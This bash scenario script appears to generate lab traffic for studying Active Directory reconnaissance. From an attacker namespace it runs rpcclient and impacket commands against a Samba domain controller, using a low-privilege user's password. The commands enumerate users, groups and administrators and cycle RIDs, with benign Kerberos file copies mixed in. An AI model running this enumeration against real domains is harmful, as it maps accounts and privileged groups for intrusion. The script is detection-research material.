# sourced by run-scenario.sh: the story played between the hosts
# Account reconnaissance over DCE/RPC against a Samba AD DC (realm LAB.LOCAL, dc1) by an attacker
# holding a plain user's password (alice): rpcclient over \pipe\samr and \pipe\lsarpc (SMB session
# with NTLM, no DCE/RPC authentication and no SMB3 encryption: every stub is readable) lists the
# users (EnumDomainUsers, QueryDisplayInfo/2/3 at several levels), resolves names to SIDs (LSA
# LookupNames, SAMR LookupNames) and SIDs/RIDs to names (LSA LookupSids, SAMR LookupRids), lists the
# members of Domain Admins (QueryGroupMember 0x200) and of BUILTIN\Administrators (GetMembersInAlias
# 0x220) and the LSA accounts (EnumAccounts); tools/lsa-lookups.py (impacket) adds LookupNames2/3 and
# LookupSids2; impacket's lookupsid.py cycles RIDs 0-1200 with LsarLookupSids. Meanwhile a benign user
# (carol) gets a Kerberos ticket and copies a file on the dept share.
NET=172.31.233; ATT=66; VIC=10; CLI=23; DNS=2; SHELLPORT=0
EXTRA_HOSTS="$NET.10 dc1.lab.local"
source "$HERE/lib/samba-dc.sh"
services() { samba_dc_start; }
benign_smb() {   # carol: kinit, smbclient with Kerberos to the dept share
  printf 'Minutes of the Monday meeting\n- budget\n- hiring\n' > "$RUN/minutes.txt"
  echo 'Winter!2026c' | nsx cli env KRB5_CONFIG="$RUN/krb5.conf" KRB5CCNAME="FILE:$RUN/cc.carol" timeout 20 kinit carol@LAB.LOCAL >>"$RUN/logs/kinit.log" 2>&1 || true
  ( cd "$RUN" && nsx cli env KRB5_CONFIG="$RUN/krb5.conf" KRB5CCNAME="FILE:$RUN/cc.carol" timeout 30 smbclient //dc1.lab.local/dept --use-kerberos=required \
      --option='client min protocol=SMB2' -c "ls; put minutes.txt; ls" >>"$RUN/logs/smbclient-carol.log" 2>&1 ) || true
}
rpc() {   # rpcclient as alice, NTLM over SMB, no DCE/RPC sealing; $1 = log name, $2 = commands
  nsx att timeout 60 rpcclient -U 'LAB/alice%Sunshine!2026' --option='client min protocol=SMB2' \
    --option='client smb encrypt=off' --option='client signing=off' -c "$2" dc1.lab.local >>"$RUN/logs/$1.log" 2>&1 </dev/null || true
}
play() {
  note "attacker $A (password of the plain user alice); domain controller dc1.lab.local $V (Samba 4.17 AD DC, realm LAB.LOCAL, SMB 445); benign workstation (carol) $C; dns $D"
  for h in cli att; do mkdir -p "/etc/netns/$P-$h"; printf '127.0.0.1 localhost\n%s dc1.lab.local dc1\n' $V > "/etc/netns/$P-$h/hosts"; printf 'nameserver %s\n' $D > "/etc/netns/$P-$h/resolv.conf"; done
  note "0 benign: carol gets a TGT with kinit, lists the dept share and puts minutes.txt (smbclient, Kerberos)"
  benign_smb
  sleep 2
  note "0b attacker locates the domain controllers in DNS (dc1's own DNS server): SRV _ldap._tcp.dc._msdcs.lab.local, then A dc1.lab.local"
  nsx att timeout 10 dig +short @$V _ldap._tcp.dc._msdcs.lab.local SRV >"$RUN/logs/dig.log" 2>&1 || true
  nsx att timeout 10 dig +short @$V dc1.lab.local A >>"$RUN/logs/dig.log" 2>&1 || true
  sleep 1
  note "1 rpcclient (alice, NTLM, \\\\pipe\\\\samr): enumdomusers (EnumDomainUsers), querydispinfo (QueryDisplayInfo level 1), querydispinfo2 (QueryDisplayInfo2 level 1), querydispinfo3 3 0 100 16383 (QueryDisplayInfo3 level 3: groups), querydispinfo 2 0 100 16383 (level 2: machine accounts), querydispinfo2 4 0 100 16383 (level 4: ASCII user names); rpcclient takes level, start index, entries, size"
  rpc rpcclient-users 'enumdomusers; querydispinfo; querydispinfo2; querydispinfo3 3 0 100 16383; querydispinfo 2 0 100 16383; querydispinfo2 4 0 100 16383'
  sleep 1
  note "2 rpcclient (\\\\pipe\\\\lsarpc): lsaquery (the domain SID), lookupnames administrator svc_sql (LsarLookupNames)"
  rpc rpcclient-lsa 'lsaquery; lookupnames administrator svc_sql'
  local SID; SID=$(sed -n 's/^Domain Sid: \(S-1-5-21-[0-9-]*\).*/\1/p' "$RUN/logs/rpcclient-lsa.log" | head -1)
  note "  domain SID $SID"
  sleep 1
  note "3 rpcclient: lookupsids $SID-500 $SID-501 $SID-502 $SID-512 S-1-5-32-544 (LsarLookupSids); samlookupnames domain administrator svc_sql nosuchuser (SAMR LookupNames); samlookuprids domain 500 501 502 512 (SAMR LookupRids); querygroupmem 0x200 (QueryGroupMember: Domain Admins); queryaliasmem builtin 0x220 (GetMembersInAlias: BUILTIN\\\\Administrators); lsaenumsid (LsarEnumerateAccounts)"
  rpc rpcclient-lookups "lookupsids $SID-500 $SID-501 $SID-502 $SID-512 S-1-5-32-544; samlookupnames domain administrator svc_sql nosuchuser; samlookuprids domain 500 501 502 512; querygroupmem 0x200; queryaliasmem builtin 0x220; lsaenumsid"
  sleep 1
  note "4 tools/lsa-lookups.py (impacket, \\\\pipe\\\\lsarpc): LsarLookupNames2 and LsarLookupNames3 of carol svc_backup, LsarLookupSids2 of $SID-1103 $SID-1104 $SID-513"
  nsx att timeout 60 /usr/bin/python3 "$HERE/tools/lsa-lookups.py" 'LAB/alice:Sunshine!2026@'$V carol svc_backup -- $SID-1103 $SID-1104 $SID-513 >"$RUN/logs/lsa-lookups.log" 2>&1 </dev/null || true
  sleep 1
  note "5 benign: carol copies minutes.txt again"
  benign_smb
  sleep 1
  note "6 impacket lookupsid.py 'LAB/alice:Sunshine!2026@$V' 1200: LsarQueryInformationPolicy2 (the domain SID), then RID cycling with LsarLookupSids over RIDs 0-1200 (SIDs in batches), names of every RID that exists"
  nsx att timeout 120 /usr/bin/python3 /usr/share/doc/python3-impacket/examples/lookupsid.py 'LAB/alice:Sunshine!2026@'$V 1200 >"$RUN/logs/lookupsid.log" 2>&1 </dev/null || true
  sleep 1
}
